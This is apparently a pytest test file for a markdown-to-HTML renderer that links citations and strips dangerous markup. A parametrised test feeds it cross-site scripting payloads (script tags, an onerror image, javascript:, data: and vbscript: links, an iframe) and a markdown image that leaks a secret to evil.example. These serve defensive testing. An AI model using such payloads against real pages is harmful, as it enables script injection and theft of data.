"""Answers become HTML that can do no harm, with their citations linked."""

import pytest

from answering.markup import to_html


def test_a_cited_number_links_to_its_source():
    html = to_html("You get 28 days [2].", [2])
    assert html.strip() == '<p>You get 28 days <a class="cite" href="#source-2" data-n="2">2</a>.</p>'


def test_citations_next_to_each_other_are_two_links():
    html = to_html("Both [1][2].", [1, 2])
    assert html.count('class="cite"') == 2
    assert "[" not in html


def test_a_number_that_was_not_cited_stays_text():
    assert to_html("Row [7].", [1]).strip() == "<p>Row [7].</p>"


def test_code_keeps_its_brackets():
    assert to_html("`row[1]`\n\n    row[1]\n", [1]).count("row[1]") == 2


def test_tables_and_lists_are_rendered_with_their_citations():
    html = to_html("| Item | Limit |\n|---|--:|\n| Meals | 40 EUR [1] |\n\n- one [1]\n- two", [1])
    assert "<td>Meals</td>" in html
    assert html.count('class="cite"') == 2
    assert 'class="right"' in html
    assert "style" not in html
    assert "<li>two</li>" in html


def test_links_leave_without_a_referrer_or_endorsement():
    html = to_html("See [the portal](https://portal.example/).", [])
    assert '<a href="https://portal.example/" rel="noopener nofollow" target="_blank">the portal</a>' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:x)",
        '<a href="https://evil.example" onclick="x()">x</a>',
        "<style>body{display:none}</style>",
        "<iframe src=//evil.example></iframe>",
        '[x](https://a.example "onmouseover=alert(1)")',
    ],
)
def test_nothing_in_an_answer_can_run_or_load(hostile):
    html = to_html(hostile, [1])
    for harm in ("<script", "<img", "<iframe", "<style", 'href="javascript', 'href="data', 'href="vbscript'):
        assert harm not in html
    assert " onerror=" not in html.replace("&lt;img src=x onerror=alert(1)&gt;", "")
    assert '<a href="https://evil.example" onclick' not in html


def test_a_reference_definition_cannot_redirect_citations():
    html = to_html("Fact [1].\n\n[1]: https://evil.example", [1])
    assert 'href="https://evil.example' not in html
    assert 'href="#source-1"' in html
